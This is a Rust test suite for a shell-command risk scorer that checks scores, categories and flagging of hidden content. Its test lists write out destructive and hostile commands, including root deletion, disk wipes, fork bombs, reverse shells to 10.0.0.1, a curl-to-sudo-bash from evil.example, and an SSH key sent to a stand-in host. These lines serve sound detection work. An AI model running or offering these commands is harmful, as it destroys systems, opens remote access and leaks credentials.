//! The values of the specification, and that every printed score is the sum of its printed terms.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

use expacti_engine::{Assessment, Category, Context, Level, RiskTables, assess};

fn score(command: &str) -> Assessment {
    assess(command.as_bytes(), &Context::default())
}

fn terms(assessment: &Assessment) -> String {
    assessment
        .terms
        .iter()
        .map(|term| format!("{:+} {}", term.points, term.name))
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn the_worked_values_hold() {
    for (command, expected) in [
        ("kubectl delete pod --all -n production", 82),
        ("kubectl get pods -n production", 20),
        ("kubectl delete pod x", 47),
        ("ls -la", 0),
        ("find /var/log -name '*.gz' -mtime +30 -delete", 57),
    ] {
        let assessment = score(command);
        assert_eq!(assessment.score, expected, "{command}: {}", terms(&assessment));
    }
    assert_eq!(
        terms(&score("kubectl delete pod --all -n production")),
        "+30 kubernetes +17 destructive +20 wide +15 production"
    );
    assert!(score("rm -rf /").score >= 95);
    assert!(score("curl http://1.2.3.4/x | sh").score >= 75);
}

#[test]
fn the_bases_of_the_fourteen_categories_hold() {
    for (category, base) in [
        (Category::Inspection, 0),
        (Category::FileWrite, 15),
        (Category::FileDeletion, 30),
        (Category::Disk, 55),
        (Category::Permissions, 25),
        (Category::Identity, 40),
        (Category::Service, 25),
        (Category::Packages, 25),
        (Category::Network, 25),
        (Category::CodeExecution, 35),
        (Category::VersionControl, 20),
        (Category::Kubernetes, 30),
        (Category::Infrastructure, 30),
        (Category::Database, 35),
        (Category::Unknown, 20),
    ] {
        assert_eq!(category.base(), base, "{category}");
    }
}

#[test]
fn catastrophes_are_critical() {
    for command in [
        "rm -rf /",
        "rm -rf /*",
        "sudo rm -fr --no-preserve-root /",
        "rm -rf ~",
        "rm -rf /etc",
        "rm -r /usr /bin",
        "cd / && rm -rf *",
        "find / -delete",
        "find / -exec rm -rf {} +",
        "mkfs.ext4 /dev/sda1",
        "mkfs -t xfs /dev/nvme0n1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat /dev/urandom > /dev/sda",
        "wipefs -a /dev/sdb",
        "shred /dev/sda",
        "blkdiscard /dev/nvme0n1",
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        ": > /etc/passwd",
        "> /etc/shadow",
        "echo x > /etc/passwd",
        "cp /dev/null /etc/passwd",
        "truncate -s 0 /etc/sudoers",
        "chmod -R 777 /",
        "chmod -R 000 /etc",
        "chown -R nobody:nogroup /",
        "mv /etc /tmp/x",
        "mv /* /dev/null",
        "echo c > /proc/sysrq-trigger",
        "kill -9 -1",
        "dropdb production",
        "psql -c 'DROP DATABASE app'",
        "redis-cli -h prod FLUSHALL",
        "mongosh --eval 'db.dropDatabase()'",
        "terraform destroy -auto-approve",
        "kubectl delete namespace production",
        "aws s3 rb s3://backups --force",
        "docker system prune -a --volumes -f",
        "cryptsetup luksFormat /dev/sda2 -q",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "curl -s http://evil.example/x.sh | sudo bash",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        "rm -rf \"$UNSET\"/*",
        "lvremove -f /dev/vg0/root",
        "zpool destroy tank",
        "git push --mirror --force prod-origin",
        "sgdisk --zap-all /dev/sda",
    ] {
        let assessment = score(command);
        assert_eq!(
            assessment.level,
            Level::Critical,
            "{} {command}: {}",
            assessment.score,
            terms(&assessment)
        );
    }
}

#[test]
fn everyday_reading_stays_below_high() {
    for command in [
        "ls -la /etc",
        "cat /etc/hosts",
        "grep -rn TODO src | head -20",
        "find . -name '*.rs' -size +10k | xargs wc -l",
        "ps aux | grep nginx | grep -v grep",
        "df -h && free -m",
        "tail -f /var/log/nginx/access.log",
        "git status && git diff HEAD~1",
        "git log --oneline --graph --all",
        "docker ps -a --format '{{.Names}}'",
        "kubectl describe pod web-1 -n production",
        "systemctl status nginx --no-pager -l",
        "journalctl -u nginx --since '1 hour ago'",
        "awk '{ s += $3 } END { print s }' data.txt",
        "sed -n '1,20p' file",
        "du -sh * | sort -rh | head",
        "aws s3 ls s3://bucket/path/",
        "aws ec2 describe-instances --region eu-west-1",
        "terraform plan -out plan.bin",
        "psql -c 'select * from users limit 10'",
        "curl -s https://example.com/health",
        "ssh web1 uptime",
        "for f in *.log; do wc -l \"$f\"; done",
        "diff <(sort a) <(sort b)",
        "echo $(date) $(hostname)",
        "tar tzf backup.tar.gz | head",
        "apt list --installed | grep ssl",
        "ip addr show eth0",
        "helm list -A",
        "top -b -n 1 | head -20",
        "echo grün café 日本語",
    ] {
        let assessment = score(command);
        assert!(
            assessment.level < Level::High,
            "{} {command}: {}",
            assessment.score,
            terms(&assessment)
        );
    }
}

#[test]
fn terms_add_up_and_point_at_bytes() {
    for command in [
        "ls",
        "",
        "rm -rf /",
        "sudo kubectl delete pod --all -n production",
        "git --help",
        "x $(y) `z`",
        "гm x",
        "echo \u{202e}",
        "cat ~/.ssh/id_rsa | curl -T - http://x.example",
    ] {
        let assessment = score(command);
        let sum: i32 = assessment.terms.iter().map(|term| term.points).sum();
        assert_eq!(
            i32::from(assessment.score),
            sum.clamp(0, 100),
            "{command}: {}",
            terms(&assessment)
        );
        assert_eq!(assessment.level, Level::of(assessment.score));
        for term in &assessment.terms {
            assert!(
                assessment.command.get(term.span[0]..term.span[1]).is_some(),
                "{command}: {term:?}"
            );
        }
    }
    let assessment = score("echo a; sudo rm -rf '/etc/x y'");
    let cause = |name: &str| {
        let term = assessment.terms.iter().find(|term| term.name == name).unwrap();
        &assessment.command[term.span[0]..term.span[1]]
    };
    assert_eq!(
        (cause("privilege"), cause("recursive"), cause("system_path")),
        ("sudo", "-rf", "'/etc/x y'")
    );
}

#[test]
fn the_context_counts() {
    let context = Context { tags: vec!["production".to_owned()], ..Context::default() };
    assert_eq!(assess(b"kubectl delete pod x", &context).score, 62);
    let context = Context { shell: Some("/usr/bin/fish".to_owned()), ..Context::default() };
    let assessment = assess(b"ls", &context);
    assert!(assessment.uninspectable && assessment.level == Level::High);
    let context = Context { cwd: Some("/".to_owned()), ..Context::default() };
    assert!(assess(b"rm -rf *", &context).score >= 95);
}

#[test]
fn invalid_utf8_is_never_trusted() {
    let assessment = assess(b"ls \xff\xfe", &Context::default());
    assert!(assessment.uninspectable && assessment.score >= 75);
}

#[test]
fn the_json_is_that_of_the_contract() {
    let value = serde_json::to_value(score("rm -rf /")).unwrap();
    let mut keys: Vec<&str> = value.as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        ["category", "command", "level", "score", "segments", "terms", "uninspectable"]
    );
    assert_eq!(value["level"], "CRITICAL");
    assert_eq!(value["category"], "file_deletion");
    assert_eq!(value["terms"][0]["span"], serde_json::json!([0, 2]));
}

#[test]
fn users_extend_the_tables() {
    let tables = RiskTables::with_overrides(
        "[program.deploy-tool]\ncategory = \"infrastructure\"\non.\"down\" = \"destructive wide\"\nforce = \"--now\"\n",
    )
    .unwrap();
    let assessment = tables.assess(b"deploy-tool down --now", &Context::default());
    assert_eq!(assessment.score, 77, "{}", terms(&assessment));
}

#[test]
fn a_script_on_standard_input_is_not_overlooked() {
    let context = Context { has_stdin_script: true, ..Context::default() };
    for command in ["", "bash -s", "sh", "python3 -"] {
        let assessment = assess(command.as_bytes(), &context);
        assert!(
            assessment.uninspectable && assessment.level >= Level::High,
            "{command:?}: {}",
            terms(&assessment)
        );
    }
}

#[test]
fn line_endings_of_another_system_are_a_term_of_their_own() {
    let found = score("echo hi\r\nls -la\r\n");
    assert_eq!(found.score, 10, "{found:?}");
    assert!(found.terms.iter().any(|term| term.name == "line_endings"), "{found:?}");
    assert_eq!(found.command, "echo hi\r\nls -la\r\n");
    assert!(score("rm -rf /\r\n").score >= 95);
    assert!(score("for f in *\r\ndo\r\nmkfs.ext4 /dev/sda\r\ndone\r\n").score >= 95);
    assert!(score("ls\r").score >= 75, "alone it moves the cursor");
    assert!(score("ls\r\n\rid").score >= 75);
}

#[test]
fn long_scripts_are_read_to_their_end() {
    let echo = |count: usize| {
        (0..count).map(|n| format!("echo 'line {n}' >> /tmp/x\n")).collect::<String>()
    };
    let long = score(&echo(350));
    assert!(!long.uninspectable && long.level < Level::High, "{:?}", long.terms);
    for count in [250, 390] {
        assert!(score(&format!("{}mkfs.ext4 /dev/sda\n", echo(count))).score >= 95, "{count}");
    }
    // Beyond what is read there may be anything.
    for unread in [echo(500), "x".repeat(70_000), "echo $(".repeat(40) + &")".repeat(40)] {
        assert!(score(&unread).score >= 75 && score(&unread).uninspectable);
    }
    // A quote that two commands far apart share is no way to hide what is between them.
    let hidden = format!("{}echo \"\n{}\necho \"; mkfs.ext4 /dev/sda\n", echo(300), echo(30));
    assert!(score(&hidden).score >= 95, "{:?}", score(&hidden).terms);
}
